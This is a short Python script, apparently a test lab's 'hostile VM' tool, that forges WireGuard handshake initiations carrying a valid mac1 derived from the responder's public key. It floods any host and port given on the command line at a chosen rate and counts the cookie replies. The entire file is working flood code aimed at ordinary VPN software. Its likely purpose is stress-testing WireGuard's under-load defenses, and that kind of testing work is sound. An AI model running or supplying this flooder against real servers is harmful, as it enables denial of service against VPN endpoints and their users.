#!/usr/bin/env python3
"""Forged WireGuard handshake initiations with a valid mac1 (the lab's hostile VM).

    wg-forge.py HOST PORT RESPONDER_PUBLIC_KEY_BASE64 RATE SECONDS

Anyone who knows a WireGuard responder's public key can compute mac1 (a keyed
BLAKE2s over the message), so these pass the first check every WireGuard
implementation makes; the rest of the message is random and can never
complete a handshake. Sent at RATE per second for SECONDS from one UDP socket;
prints how many were sent and how many datagrams came back (cookie replies).
"""
import base64
import hashlib
import os
import socket
import sys
import time


def initiation(mac1_key: bytes) -> bytes:
    # type 1, 3 reserved bytes, sender index, ephemeral, encrypted static,
    # encrypted timestamp: 116 bytes covered by mac1; then mac1, mac2 (zero).
    body = b"\x01\x00\x00\x00" + os.urandom(4 + 32 + 48 + 28)
    mac1 = hashlib.blake2s(body, digest_size=16, key=mac1_key).digest()
    return body + mac1 + bytes(16)


def main() -> int:
    host, port, key, rate, seconds = sys.argv[1:6]
    public = base64.b64decode(key)
    if len(public) != 32:
        print("wg-forge: the public key must decode to 32 bytes", file=sys.stderr)
        return 2
    mac1_key = hashlib.blake2s(b"mac1----" + public).digest()
    rate, seconds = float(rate), float(seconds)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setblocking(False)
    target = (host, int(port))
    sent = replies = 0
    start = time.monotonic()
    while (now := time.monotonic()) - start < seconds:
        due = int((now - start) * rate) + 1
        while sent < due:
            try:
                sock.sendto(initiation(mac1_key), target)
            except OSError:
                pass
            sent += 1
        try:
            while True:
                sock.recv(2048)
                replies += 1
        except BlockingIOError:
            pass
        time.sleep(0.002)
    print(f"sent {sent} forged initiations in {seconds:.0f} s, {replies} datagrams came back")
    return 0


if __name__ == "__main__":
    sys.exit(main())
